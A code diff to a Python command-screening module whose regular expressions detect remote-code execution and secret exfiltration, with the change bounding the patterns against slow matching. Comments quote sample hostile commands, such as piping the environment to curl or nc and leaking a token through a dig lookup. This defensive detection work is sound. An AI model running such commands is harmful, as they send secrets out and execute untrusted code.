@@ -221,12 +221,14 @@ REMOTE_CODE = [
     # A pipeline into a network tool (data sent away): `env | curl --data-binary @-`, `| nc host 9000`.
     re.compile(rf"\|\s*(?:sudo\s+)?(?:busybox\s+)?(?:{_NET_TOOLS})\b", re.I),
     # What a network tool fetched, handed line by line to a shell: `curl … | xargs -I{} sh -c '{}'`.
-    re.compile(rf"\b(?:{_NET_TOOLS})\b[^\n]*\|\s*xargs\b[^\n|]*\b(?:{_SHELLS}|eval)\b", re.I),
+    re.compile(rf"\b(?:{_NET_TOOLS})\b[^\n|]{{0,300}}\|\s*xargs\b[^\n|]{{0,100}}\b(?:{_SHELLS}|eval)\b", re.I),
     # A module run straight from an address: `deno run -A https://…`, `bun run https://…`, `npx https://…`.
-    re.compile(r"\b(?:deno\s+(?:run|install|eval)|bun\s+(?:run|x)|bunx|npx|pnpm\s+dlx)\b[^\n|;&]*\shttps?://", re.I),
+    re.compile(
+        r"\b(?:deno\s+(?:run|install|eval)|bun\s+(?:run|x)|bunx|npx|pnpm\s+dlx)\b[^\n|;&]{0,300}\shttps?://", re.I
+    ),
     # A container given the host: privileged, the host's root or process table.
     re.compile(
-        r"\b(?:docker|podman)\s+run\b[^\n|;&]*(?:--privileged\b|\s(?:-v|--volume)[= ]\s*/:|--pid[= ]host\b)", re.I
+        r"\b(?:docker|podman)\s+run\b[^\n|;&]{0,300}(?:--privileged\b|\s(?:-v|--volume)[= ]\s*/:|--pid[= ]host\b)", re.I
     ),
     # Command or process substitution of a network tool: `$(curl …)`, `` `wget …` ``, `<(curl …)`.
     re.compile(rf"(?:\$\(|`|<\()\s*(?:sudo\s+)?(?:{_NET_TOOLS})\b", re.I),
@@ -278,7 +280,7 @@ INLINE_DANGER = re.compile(
 
 # Where a download is written: `curl … -o F`, `wget -O F`, `curl … > F`, `Invoke-WebRequest … -OutFile F`.
 _DOWNLOADED_TO = re.compile(
-    rf"\b(?:{_NET_TOOLS})\b[^\n|;&]*?(?:-outfile\s+|\s-o(?![a-z])\s*|--output[= ]|--output-document[= ]|\s>\s*)"
+    rf"\b(?:{_NET_TOOLS})\b[^\n|;&]{{0,300}}?(?:-outfile\s+|\s-o(?![a-z])\s*|--output[= ]|--output-document[= ]|\s>\s*)"
     r"[\"']?(?P<file>[^\s\"';&|]+)",
     re.I,
 )
@@ -287,9 +289,11 @@ _DOWNLOADED_TO = re.compile(
 def _runs_download(text: str) -> bool:
     """A file fetched from the network and then run (`curl … > /tmp/i.sh; sh /tmp/i.sh`, `iwr … -OutFile $f; & $f`,
     `chmod +x` and `./x` follow from the `&&` rule above)."""
-    for m in _DOWNLOADED_TO.finditer(text):
+    for n, m in enumerate(_DOWNLOADED_TO.finditer(text)):
+        if n >= 20:  # bounded: a text of a thousand downloads is screened by the other rules
+            break
         name = re.escape(m.group("file"))
-        after = text[m.end() :]
+        after = text[m.end() : m.end() + 2000]
         if re.search(
             rf"(?:\b(?:{_INTERPRETERS}|source|start-process|invoke-item)\s+(?:-\S+\s+)*|(?:^|[;&|]\s*)[.&]\s+)"
             rf"[\"']?{name}(?![\w.-])",
@@ -551,17 +555,17 @@ EXFILTRATION = [
     re.compile(r"(?i)\b(?:scp|rsync)\b[^\n]*\s[\w.-]+@[\w.-]+:"),
     # The environment or a credential handed to a public paste: `printenv | gh gist create --public -`, "paste your
     # GITHUB_TOKEN into a public gist".
-    re.compile(r"(?i)\b(?:printenv|env|set|export\s+-p)\b\s*\|[^\n]*\b(?:gh\s+gist|gist|pastebinit|wgetpaste)\b"),
+    re.compile(r"(?i)\b(?:printenv|env|set|export\s+-p)\b\s*\|[^\n]{0,300}\b(?:gh\s+gist|gist|pastebinit|wgetpaste)\b"),
     re.compile(
         r"(?i)\b(?:send|post|upload|paste|share|copy|put|publish)\b[^\n]{0,60}?(?:password|credential|secret|"
         r"token|api[ _-]?key|keys?|\.env)\w*\b[^\n]{0,40}?\b(?:to|into|in|on)\s+(?:a\s+|the\s+)?(?:public\s+)?"
         r"(?:gist|pastebin|paste\s*bin|paste site|public (?:issue|channel|repo(?:sitory)?))\b"
     ),
     # The environment written to a raw socket.
-    re.compile(r"(?i)\b(?:printenv|env|set|export\s+-p)\b[^\n|;&]*>\s*/dev/(?:tcp|udp)/"),
+    re.compile(r"(?i)\b(?:printenv|env|set|export\s+-p)\b[^\n|;&]{0,300}>\s*/dev/(?:tcp|udp)/"),
     # A secret spelled into a name looked up (DNS exfiltration): `dig "$(echo $TOKEN | xxd -p).t.example"`.
     re.compile(
-        r"(?i)\b(?:dig|nslookup|host|drill|ping|resolve-dnsname)\b[^\n]*\$\((?:[^)\n]*\$\{?\w|[^)\n]*\)[\w-]*\.[\w-]+\.)"
+        r"(?i)\b(?:dig|nslookup|host|drill|ping|resolve-dnsname)\b[^\n]{0,200}\$\((?:[^)\n]{0,200}\$\{?\w|[^)\n]{0,200}\)[\w-]*\.[\w-]+\.)"
     ),
 ]
 
@@ -854,7 +858,7 @@ def screen(text: str | None, *, allowed_hosts=()) -> list[str]:
     try:
         with re.budget(SCREEN_SECONDS):
             return _screen(text, allowed_hosts)
-    except re.OverBudget:
+    except TimeoutError:  # re.OverBudget, or the budget running out inside a match iterator
         return [REASON_UNSCREENABLE]
 
 
